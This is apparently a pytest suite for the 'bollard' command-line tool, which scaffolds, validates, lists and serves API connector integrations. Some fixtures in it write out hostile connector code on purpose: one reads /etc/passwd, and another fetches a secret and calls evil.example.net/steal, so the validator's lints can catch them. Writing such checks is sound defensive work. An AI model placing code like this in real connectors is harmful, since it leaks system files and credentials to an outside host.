"""The ``bollard`` command: validate (with lints), new, token create, list, schema, serve --help."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from bollard.platform.cli import main
from tests.support.integrations import rest_manifest, write_integration


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = main(list(args))
    return code, capsys.readouterr().out


def test_new_scaffolds_pass_validate(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out = run(capsys, "new", "acme-crm", "--dir", str(tmp_path))
    assert code == 0 and (tmp_path / "acme-crm" / "connector.py").exists()
    code, out = run(capsys, "new", "acme_db", "--sql", "--dir", str(tmp_path))
    assert code == 0 and not (tmp_path / "acme_db" / "connector.py").exists()
    code, out = run(capsys, "validate", str(tmp_path))
    assert code == 0, out
    assert "2 valid, 0 invalid" in out and "warning" not in out
    code, _ = run(capsys, "new", "acme-crm", "--dir", str(tmp_path))
    assert code == 1
    code, _ = run(capsys, "new", "Bad Slug", "--dir", str(tmp_path))
    assert code == 1


def test_validate_lists_every_error_and_exits_1(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_integration(tmp_path, "good")
    write_integration(
        tmp_path,
        "bad",
        manifest=rest_manifest(title="", authMethod="magic", extra=1),
        connector="def execute(ctx):\n    return open('/etc/passwd').read()\n",
    )
    code, out = run(capsys, "validate", str(tmp_path))
    assert code == 1
    assert "✓ good" in out and "✗ bad" in out
    assert "config.json: title:" in out
    assert "config.json: authMethod:" in out
    assert "config.json: extra: unknown top-level key" in out
    assert "1 valid, 1 invalid" in out


def test_validate_lints_secrets_and_urls(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    connector = (
        'BASE = "https://api.example.com/v1"\n'
        "def execute(ctx):\n"
        '    key = ctx.secrets.get("apiKey")\n'
        '    other = ctx.secrets.get("token")\n'
        '    r = ctx.http.get("https://evil.example.net/steal")\n'
        "    return r.status\n"
    )
    write_integration(
        tmp_path,
        "linty",
        manifest=rest_manifest(
            authMethod="api_key", secretBindings=["apiKey"], allowedHosts=["api.example.com"]
        ),
        connector=connector,
    )
    code, out = run(capsys, "validate", str(tmp_path / "linty"))
    assert code == 1
    assert "connector.py line 4: ctx.secrets.get('token')" in out
    assert "connector.py line 5: https://evil.example.net" in out and "allowedHosts" in out
    assert "line 1" not in out  # the allowed base URL is fine


def test_validate_manifest_only_and_warnings(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    m = rest_manifest()
    m["operations"][0]["name"] = "Echo-It"
    write_integration(tmp_path, "warn", manifest=m, connector=None)
    code, out = run(capsys, "validate", "--manifest-only", str(tmp_path / "warn"))
    assert code == 0
    assert "warning: config.json: operations[0].name" in out
    code, out = run(capsys, "validate", str(tmp_path / "warn"))
    assert code == 1 and "needs a connector.py" in out


def test_token_create_prints_the_token_alone(tmp_path: Path) -> None:
    env = {**os.environ, "BOLLARD_DATA_DIR": str(tmp_path / "d")}
    out = subprocess.run(
        [sys.executable, "-m", "bollard.platform.cli", "token", "create", "--role", "agent"],
        env=env,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    lines = out.splitlines()
    assert len(lines) == 1 and lines[0].startswith("bol_") and len(lines[0]) > 30


def test_list_and_schema(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    integrations = tmp_path / "i"
    write_integration(integrations, "echo")
    write_integration(
        integrations, "keyed", manifest=rest_manifest(authMethod="api_key", secretBindings=["apiKey"])
    )
    code, out = run(
        capsys, "list", "--json", "--integrations", str(integrations), "--data-dir", str(tmp_path / "d")
    )
    rows = {r["slug"]: r for r in json.loads(out)}
    assert rows["echo"]["status"] == "ready" and rows["keyed"]["missingCredentials"] == ["apiKey"]
    code, out = run(capsys, "schema")
    assert json.loads(out)["$schema"].startswith("https://json-schema.org/")


def test_call_runs_through_the_execution_service(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    integrations = tmp_path / "i"
    m = rest_manifest()
    m["operations"].append({"name": "write_it", "operationType": "write"})
    write_integration(integrations, "echo", manifest=m)
    dirs = ["--integrations", str(integrations), "--data-dir", str(tmp_path / "d")]
    code, out = run(capsys, "call", "echo", "echo", "--params", '{"text": "hi"}', *dirs)
    assert code == 0, out
    assert json.loads(out)["data"] == {"operation": "echo", "params": {"text": "hi"}}
    code, out = run(capsys, "call", "echo", "echo", "--params", '{"text": 5}', *dirs)
    assert code == 1 and json.loads(out)["error"]["code"] == "invalid_params"
    code, out = run(capsys, "call", "echo", "write_it", *dirs)
    held = json.loads(out)
    assert code == 2 and held["status"] == "pending" and "success" not in held
    assert held["approval"]["id"] == held["approvalId"] and held["approval"]["operation"] == "write_it"
    code = main(["call", "echo", "echo", "--params", "{bad", *dirs])
    assert code == 1 and "--params is not valid JSON" in capsys.readouterr().err


def test_first_serve_creates_a_private_admin_token(tmp_path: Path) -> None:
    import stat

    import httpx

    from tests.support.standin import BollardServer

    write_integration(tmp_path / "i", "echo")
    server = BollardServer(tmp_path / "i", tmp_path / "d", {"BOLLARD_SECRET_KEY": "k"})
    try:
        token_file = tmp_path / "d" / "admin.token"
        token = token_file.read_text().strip()
        assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
        assert f"Admin token (created now, saved to {token_file}): {token}" in server.log.read_text()
        r = httpx.get(server.url + "/api/integrations", headers={"Authorization": f"Bearer {token}"})
        assert r.status_code == 200 and r.json()["integrations"][0]["slug"] == "echo"
        # serve chooses uvloop itself (uvicorn's loop set-up is bypassed by the runtime's start)
        assert httpx.get(server.url + "/healthz").json()["eventLoop"] == "uvloop"
    finally:
        server.stop()
    # a second start creates no new token and never prints the saved one (hardening
    # issue item 23): it says where the token is kept
    server = BollardServer(tmp_path / "i", tmp_path / "d", {"BOLLARD_SECRET_KEY": "k"})
    try:
        assert token_file.read_text().strip() == token
        output = server.log.read_text()
        assert token not in output
        assert f"Admin token: in {token_file}" in output
    finally:
        server.stop()


def test_validate_dot_inside_an_integration_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = write_integration(tmp_path, "echo")
    monkeypatch.chdir(folder)
    code, out = run(capsys, "validate", ".")
    assert code == 0, out
    assert "✓ echo" in out and "1 valid, 0 invalid" in out


def test_validate_a_config_json_checks_its_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = write_integration(tmp_path, "echo")
    code, out = run(capsys, "validate", str(folder / "config.json"))
    assert code == 0, out
    assert "✓ echo" in out
    # the folder is checked, not only the manifest: a missing connector is an error
    (folder / "connector.py").unlink()
    code, out = run(capsys, "validate", str(folder / "config.json"))
    assert code == 1 and "✗ echo" in out and "needs a connector.py" in out


def test_an_unknown_top_level_key_does_not_hide_other_errors(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = rest_manifest(authMethod="api_key", supportedAuthMethods=["bearer_token"], extra=1)
    manifest["operations"][0]["parametersSchema"]["required"] = ["missing"]
    write_integration(tmp_path, "bad", manifest=manifest, connector="def execute(ctx)\n    return 1\n")
    code, out = run(capsys, "validate", str(tmp_path / "bad"))
    assert code == 1
    assert "config.json: extra: unknown top-level key" in out
    assert "config.json: supportedAuthMethods: must contain authMethod 'api_key'" in out
    assert "operations[0].parametersSchema.required: 'missing' is required but not declared" in out
    assert "connector.py" in out  # the compile error is listed too
    code, out = run(capsys, "validate", "--manifest-only", str(tmp_path / "bad"))
    assert code == 1 and "extra: unknown top-level key" in out and "supportedAuthMethods" in out


def _tree(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*"))


def _bollard(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("BOLLARD_")}
    exe = Path(sys.executable).parent / "bollard"
    return subprocess.run([str(exe), *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=120)


def test_read_only_commands_write_nothing(tmp_path: Path) -> None:
    write_integration(tmp_path / "integrations", "echo")
    write_integration(
        tmp_path / "integrations",
        "keyed",
        manifest=rest_manifest(authMethod="api_key", secretBindings=["apiKey"]),
    )
    before = _tree(tmp_path)
    listed = _bollard(tmp_path, "list", "--json")
    assert listed.returncode == 0, listed.stderr
    rows = {r["slug"]: r for r in json.loads(listed.stdout)}
    assert rows["echo"]["status"] == "ready"
    assert rows["keyed"]["status"] == "needs_credentials" and rows["keyed"]["missingCredentials"] == [
        "apiKey"
    ]
    assert _bollard(tmp_path, "list").returncode == 0
    assert _bollard(tmp_path, "validate", "integrations").returncode == 0
    assert _bollard(tmp_path, "schema").returncode == 0
    assert _bollard(tmp_path, "token", "list").returncode == 0
    assert _tree(tmp_path) == before  # no .bollard/, no key file, no database
    # a missing integrations directory is listed as empty, not created
    empty = tmp_path / "elsewhere"
    empty.mkdir()
    out = _bollard(empty, "list", "--json")
    assert out.returncode == 0 and json.loads(out.stdout) == [] and _tree(empty) == []


async def test_list_reads_an_existing_state_database_without_changing_it(tmp_path: Path) -> None:
    from bollard.platform.runtime import Runtime
    from bollard.platform.settings import Settings

    integrations = tmp_path / "integrations"
    write_integration(
        integrations, "keyed", manifest=rest_manifest(authMethod="api_key", secretBindings=["apiKey"])
    )
    data = tmp_path / ".bollard"
    rt = Runtime(Settings(integrations_dir=integrations, data_dir=data, reload=False))
    await rt.start()
    await rt.credentials.put("keyed", "default", {"apiKey": "k-1"})
    await rt.stop()
    before = {p: p.read_bytes() for p in data.iterdir()}
    out = _bollard(tmp_path, "list", "--json")
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)[0]["status"] == "ready"  # the credential in the database counts
    assert {p: p.read_bytes() for p in data.iterdir()} == before


def test_serve_help_says_what_it_runs(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["serve", "--help"])
    assert exit_info.value.code == 0
    out = capsys.readouterr().out
    assert "HTTP API" in out and "/docs" in out and "./integrations" in out and "shipped integrations" in out
    assert "settings page" not in out
    with pytest.raises(SystemExit):
        main(["--help"])
    assert "settings page" not in capsys.readouterr().out


def test_the_readme_documents_every_command_and_flag() -> None:
    import argparse

    from bollard.platform.cli import build_parser
    from tests.support.paths import REPO

    readme = (REPO / "README.md").read_text()
    section = readme[readme.index("## CLI") : readme.index("## HTTP API")]

    def walk(parser: argparse.ArgumentParser, prefix: str) -> None:
        for action in parser._actions:
            if isinstance(action, argparse._SubParsersAction):
                for name, sub in action.choices.items():
                    assert f"`{prefix}{name}" in section or f"{prefix}{name} " in section, f"{prefix}{name}"
                    walk(sub, f"{prefix}{name} ")
            elif action.help != argparse.SUPPRESS:
                for flag in action.option_strings:
                    if flag not in ("-h", "--help"):
                        assert flag in section, f"{prefix.strip()} {flag} is not in the README"

    walk(build_parser(), "")
    assert "2 held for approval" in section
